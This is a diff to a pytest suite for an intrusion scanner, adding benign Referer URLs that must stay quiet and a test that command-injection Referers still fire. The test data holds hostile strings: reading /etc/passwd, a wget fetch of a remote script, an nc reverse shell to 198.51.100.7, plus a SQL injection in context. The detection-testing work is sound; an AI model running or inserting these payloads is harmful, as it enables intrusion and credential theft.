@@ -161,6 +161,9 @@ def test_json_body_with_code_snippets_is_quiet() -> None:
         "https://shop.example/cart;jsessionid=0A1B2C3D4E?step=2",
         "https://docs.example/guide#install-on-linux",
         "https://news.example/2024/05/rock-%26-roll-is-back",
+        "https://www.google.com/search?q=linux%3Bls+-al+meaning",
+        "https://forum.example/t/why-does-ping-time-out;page=2",
+        "https://docs.example/shell/redirects-and-pipes?q=cat+file+%7C+grep+foo",
     ],
 )
 def test_benign_referers_are_quiet(referer: str) -> None:
@@ -194,3 +197,17 @@ def test_sql_behind_prose_head_still_fires() -> None:
     # The prose exemption reads the head of a document: an injection at its start is seen.
     text = "x' UNION SELECT password FROM users -- " + ARTICLE
     assert "sqli" in {hit.subtype for hit in scan(_exchange(query="q=" + quote(text, safe="")))}
+
+
+@pytest.mark.parametrize(
+    "referer",
+    [
+        "https://shop.example/;cat /etc/passwd",
+        "https://shop.example/?q=x;wget http://198.51.100.7/a.sh",
+        ";env",
+        "https://shop.example/x;nc 198.51.100.7 4444 -e /bin/sh",
+    ],
+)
+def test_commands_in_referers_still_fire(referer: str) -> None:
+    found = {hit.subtype for hit in scan(_exchange(headers=(("Referer", referer),)))}
+    assert "cmd_injection" in found, (referer, found)
